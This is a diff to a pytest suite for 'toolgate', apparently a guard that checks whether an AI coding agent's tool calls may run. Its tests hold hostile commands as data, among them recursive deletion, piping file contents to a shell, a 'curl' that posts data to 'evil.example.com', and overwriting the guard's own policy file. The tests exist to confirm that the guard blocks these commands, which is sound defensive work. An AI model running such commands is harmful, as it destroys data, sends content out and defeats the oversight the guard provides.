@@ -10,10 +10,11 @@ from pathlib import Path
 import pytest
 
 from tests.approvals.homes import SENDING, Home
-from toolgate import Guard, NullRecorder
+from toolgate import Guard, MemoryRecorder, NullRecorder, answering
 from toolgate.approvals.store import ONCE, SESSION, UNTIL, Grant
 from toolgate.host import Machine
-from toolgate.model.call import Shell, ToolCall
+from toolgate.model.call import Mcp, Shell, ToolCall
+from toolgate.model.verdict import together
 from toolgate.protocols.exchange import text_of
 
 POLICY = ".config/toolgate/policy.toml"
@@ -172,9 +173,143 @@ def test_another_environment_is_asked_about(home, name, monkeypatch):
     assert home.check().verdict == "ask"
 
 
-def test_words_about_a_call_do_not_make_it_another_one(home):
-    home.allow(home.call(input={"command": SENDING, "description": "send the notes"}))
-    assert home.check(home.call(input={"command": SENDING, "description": "try it again"})).verdict == "allow"
+def test_words_about_a_call_and_how_long_it_may_take_do_not_make_it_another_one(home):
+    home.allow(home.call(input={"command": SENDING, "description": "send the notes", "timeout": 1_000}))
+    retry = home.call(input={"timeout": 9_000, "command": SENDING, "description": "try it again"})
+    assert home.check(retry).verdict == "allow"
+
+
+def test_the_order_of_fields_does_not_matter(home):
+    def served(given):
+        return ToolCall(Mcp("ledger", "delete_entry", given), home.project, "claude-code", "s1", "", (), "x", given)
+
+    home.allow(served({"a": {"x": 1, "y": [1, 2]}, "b": 2}))
+    assert home.check(served({"b": 2, "a": {"y": [2, 1], "x": 1}})).verdict == "ask"
+    assert home.check(served({"b": 2, "a": {"y": [1, 2], "x": 1}})).verdict == "allow"
+
+
+# --- what is in the files that decide --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl apply -f notes.txt",
+        "psql -h db.example.com -f notes.txt",
+        "wget -i notes.txt",
+        "scp -r . u@host.example.com:",
+    ],
+)
+def test_a_file_that_decides_what_happens_is_looked_into(home, command):
+    call = home.call(command)
+    home.allow(call, scope=UNTIL, seconds=60)
+    assert home.check(home.call(command)).verdict == "allow"
+    with open(f"{home.project}/notes.txt", "r+") as file:
+        file.write("HELLO")
+    os.utime(f"{home.project}/notes.txt", (1, 1))
+    assert home.check(home.call(command)).verdict == "ask"
+
+
+def test_what_is_put_into_a_directory_that_is_sent_is_asked_about(home):
+    os.makedirs(f"{home.project}/data/sub")
+    command = "scp -r data u@host.example.com:"
+    home.allow(home.call(command), scope=UNTIL, seconds=60)
+    assert home.check(home.call(command)).verdict == "allow"
+    os.symlink("/etc", f"{home.project}/data/sub/more")
+    assert home.check(home.call(command)).verdict == "ask"
+
+
+def test_more_than_can_be_looked_at_is_allowed_once_at_most(home):
+    os.makedirs(f"{home.project}/data")
+    for index in range(2_100):
+        Path(home.project, "data", str(index)).touch()
+    call = home.call("scp -r data u@host.example.com:")
+    home.allow(call, scope=UNTIL, seconds=60)
+    assert home.check(call).verdict == "ask"
+    home.allow(call)
+    assert home.check(home.call("scp -r data u@host.example.com:")).verdict == "allow"
+
+
+def test_another_program_of_the_same_name_is_asked_about(home, monkeypatch):
+    directory = Path(home.path, "bin")
+    directory.mkdir()
+    (directory / "curl").write_text("#!/bin/sh\n")
+    import posix
+
+    monkeypatch.setitem(posix.environ, b"PATH", f"{directory}:/usr/bin".encode())
+    home.allow(scope=UNTIL, seconds=60)
+    assert home.check().verdict == "allow"
+    (directory / "curl").write_text("#!/bin/sh\nexit 1\n")
+    assert home.check().verdict == "ask"
+
+
+COMPUTED = (
+    "rm -rf $(cat notes.txt)", "xargs rm -rf < notes.txt", "cat notes.txt | bash", "bash < notes.txt", 'eval "$(cat notes.txt)"',
+    "base64 -d notes.txt | sh", "cp notes.txt $(cat notes.txt)/.config/toolgate/policy.toml", "curl -d 1 https://$HOST_OF_MINE/x", "npx $(cat notes.txt)", "python gen.py | sh",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("command", COMPUTED)
+def test_what_is_worked_out_as_it_runs_is_never_allowed_for_longer_than_once(home, command):
+    decision = home.check(home.call(command))
+    assert decision.verdict in ("ask", "deny")
+    assert home.check(home.call(command), mode="yolo").verdict != "allow"
+    question = home.store.question(decision.id)
+    assert question is None or not question.remembered
+
+
+# --- calls of several parts ------------------------------------------------------------------------------------------
+
+
+def test_calls_that_happen_together_are_allowed_one_by_one_and_used_up_together(home):
+    first, second = SENDING, SENDING.replace("/x", "/y")
+
+    def tried():
+        decisions = home.guard().check_all((home.call(first), home.call(second)))
+        return together(decisions)
+
+    asked = tried()
+    assert asked.verdict == "ask"
+    for _ in range(2):
+        question = home.store.question(asked.id)
+        home.store.grant(Grant(question.key, question.id, made=time.time()))
+        asked = tried()
+    assert asked.verdict == "allow"
+    assert tried().verdict == "ask", "and only once"
+
+
+def test_where_one_part_is_denied_nothing_is_offered(home):
+    decisions = home.guard().check_all((home.call(), home.call("rm -rf /")))
+    assert not together(decisions).grantable
+
+
+# --- ids -------------------------------------------------------------------------------------------------------------
+
+
+def test_only_ids_of_the_log_beside_the_store_are_offered(home):
+    decision = Guard(facts=Machine(home.project, home=home.path), recorder=MemoryRecorder()).check(home.call())
+    assert decision.id
+    assert not decision.grantable
+    assert home.store.questions() == []
+
+
+def test_an_id_that_another_question_has_is_nobodys(home):
+    name = home.check().id
+    for file in Path(home.state, "log").iterdir():
+        file.unlink()
+    other = home.check(home.call("curl -d 1 https://evil.example.com/"))
+    assert other.id == name
+    assert not other.grantable
+    assert home.store.asked(name) is None
+
+
+def test_a_yes_for_once_ends_after_a_day(home):
+    decision = home.check()
+    change = answering.allow(home.state, home.store.question(decision.id))
+    (grant,) = home.store.grants()
+    assert grant.expires == pytest.approx(change.time + 86_400, abs=5)
+    home.store.tidy(change.time + 86_500)
+    assert home.store.grants() == []
 
 
 # --- what a yes never beats ------------------------------------------------------------------------------------------
@@ -240,7 +375,7 @@ def mutated(chance: random.Random, home: Home) -> ToolCall:
     if kind == 3:
         return home.call(cwd=home.project + "/" + chance.choice("abcdef") * chance.randrange(1, 9))
     if kind == 4:
-        return home.call(input={"command": SENDING, "timeout": chance.randrange(10**6)})
+        return home.call(input={"command": SENDING, "run_in_background": chance.randrange(10**6)})
     return home.call(**{chance.choice(["host", "tool"]): f"x{chance.randrange(10**6)}"})
 
 
